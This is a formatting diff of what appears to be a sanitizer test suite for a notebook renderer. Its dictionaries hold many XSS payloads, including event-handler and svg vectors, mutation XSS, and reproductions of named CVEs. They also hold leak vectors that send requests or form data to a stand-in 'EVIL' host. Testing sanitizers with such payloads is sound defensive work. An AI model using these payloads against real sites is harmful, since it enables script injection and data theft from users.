@@ -39,7 +39,7 @@ SCRIPTS: Final = {
     "script after a null": f"<scr\x00ipt>{_CALL}</scr\x00ipt>",
     "image error": f"<img src=x onerror={_CALL}>",
     "image error, slashes": f"<img/src=x/onerror={_CALL}>",
-    "image error, in entities": f'<img src=x onerror="&#116;op.canary&lpar;&rpar;">',
+    "image error, in entities": '<img src=x onerror="&#116;op.canary&lpar;&rpar;">',
     "body load": f"<body onload={_CALL}>",
     "page show": f"<body onpageshow={_CALL}>",
     "details toggle": f"<details open ontoggle={_CALL}>x</details>",
@@ -65,7 +65,8 @@ SCRIPTS: Final = {
     "svg load": f"<svg onload={_CALL}></svg>",
     "svg script": f"<svg><script>{_CALL}</script></svg>",
     "svg script of another host": f'<svg><script href="{EVIL}/s.js"></script></svg>',
-    "svg animation of a link": f'<svg><a><animate attributeName=href values="javascript:{_CALL}"/><text y=9>click</text></a>',
+    "svg animation of a link": f'<svg><a><animate attributeName=href values="javascript:{_CALL}"/>'
+    "<text y=9>click</text></a>",
     "svg foreign object": f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
     "svg use": f'<svg><use href="data:image/svg+xml;base64,{_SVG}#x"/></svg>',
     "svg as image": f'<img src="data:image/svg+xml;base64,{_SVG}">',
@@ -75,9 +76,11 @@ SCRIPTS: Final = {
 #: What is harmless until it is parsed a second time.
 MUTATIONS: Final = {
     "noscript": f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
-    "style in math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_CALL}&gt;'>",
+    "style in math": f"<math><mtext><table><mglyph><style><!--</style>"
+    f"<img title='--&gt;&lt;img src=x onerror={_CALL}&gt;'>",
     "svg style": f"<svg></p><style><a id='</style><img src=1 onerror={_CALL}>'>",
-    "form in form": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={_CALL} src=x>'>",
+    "form in form": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
+    f"<img onerror={_CALL} src=x>'>",
     "title in svg": f"<svg><title><style><img title='</style><img src=x onerror={_CALL}>'></title></svg>",
     "template": f"<template><img src=x onerror={_CALL}></template>",
     "declarative shadow root": f"<div><template shadowrootmode=open><img src=x onerror={_CALL}></template></div>",
@@ -109,14 +112,18 @@ LEAKS: Final = {
     "looser policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
     f'<img src="{EVIL}/loose.png">',
     "base": f'<base href="{EVIL}/"><img src=based.png>',
-    "prefetch": f'<link rel=prefetch href="{EVIL}/p"><link rel=dns-prefetch href="//evil.invalid"><link rel=preload as=image href="{EVIL}/q">',
+    "prefetch": f'<link rel=prefetch href="{EVIL}/p"><link rel=dns-prefetch href="//evil.invalid">'
+    f'<link rel=preload as=image href="{EVIL}/q">',
     "frame": f'<iframe src="{EVIL}/frame"></iframe>',
     "frame of a portal": f'<fencedframe src="{EVIL}/fenced"></fencedframe><portal src="{EVIL}/portal"></portal>',
-    "media": f'<video src="{EVIL}/v" poster="{EVIL}/poster" autoplay muted></video><audio src="{EVIL}/a" autoplay></audio>',
+    "media": f'<video src="{EVIL}/v" poster="{EVIL}/poster" autoplay muted></video>'
+    f'<audio src="{EVIL}/a" autoplay></audio>',
     "track": f'<video muted><track default src="{EVIL}/track"></video>',
     "object of another host": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
-    "svg image": f'<svg><image href="{EVIL}/i"/><use href="{EVIL}/u#x"/><filter><feImage href="{EVIL}/fe"/></filter></svg>',
-    "form that sends itself": f'<form action="{EVIL}/form" id=f><input name=q value=secret><button>send</button></form>',
+    "svg image": f'<svg><image href="{EVIL}/i"/><use href="{EVIL}/u#x"/><filter><feImage href="{EVIL}/fe"/>'
+    f"</filter></svg>",
+    "form that sends itself": f'<form action="{EVIL}/form" id=f><input name=q value=secret><button>send</button>'
+    f"</form>",
     "button of another form": f'<button form=f formaction="{EVIL}/f2">click</button>',
     "link": f'<a href="{EVIL}/link" ping="{EVIL}/ping">click</a>',
     "link over everything": f'<a href="{EVIL}/all" style="position:fixed;inset:0;z-index:9">x</a>',
@@ -132,11 +139,12 @@ ADVISORIES: Final = {
     '<a id=MathJax></a><a id=MathJax name=config href="clobbered:x">x</a>',
     "CVE-2024-22420 markdown preview": f'<div data-mime-type="text/html" class="jp-mod-active">'
     f"<img class=x onerror={_CALL} src></div>",
-    "CVE-2021-32797 form action": f'<form id=jp-form action="javascript:{_CALL}"><button form=jp-form>click</button></form>'
-    f'<label for=y>click</label><input id=y type=submit form=jp-form formaction="javascript:{_CALL}">',
+    "CVE-2021-32797 form action": f'<form id=jp-form action="javascript:{_CALL}"><button form=jp-form>click</button>'
+    f'</form><label for=y>click</label><input id=y type=submit form=jp-form formaction="javascript:{_CALL}">',
     "CVE-2018-8768 parsed again": f'<img alt="<x" title="/><img src=x onerror={_CALL}>">',
     "CVE-2026-44727 file in a frame": f'<iframe src="/files/evil.html"></iframe><script>{_CALL}</script>',
-    "Pluto 3607 blob": f"<iframe id=b></iframe><script>b.src=URL.createObjectURL(new Blob(['<script>{_CALL}<\\/script>']))</script>",
+    "Pluto 3607 blob": f"<iframe id=b></iframe><script>b.src=URL.createObjectURL(new Blob(['<script>{_CALL}"
+    f"<\\/script>']))</script>",
     "notebookjs 58 no sanitizer": f"<table><tr><td><img src=`x`onerror={_CALL}></td></tr></table>",
 }
 
@@ -187,7 +195,7 @@ def witness() -> Iterator[Witness]:
             self.send_header("Access-Control-Allow-Origin", "*")
             self.end_headers()
 
-        do_POST = do_HEAD = do_OPTIONS = do_GET
+        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - names of the base class
 
         def log_request(self, code: object = "-", size: object = "-") -> None:
             """Say nothing."""
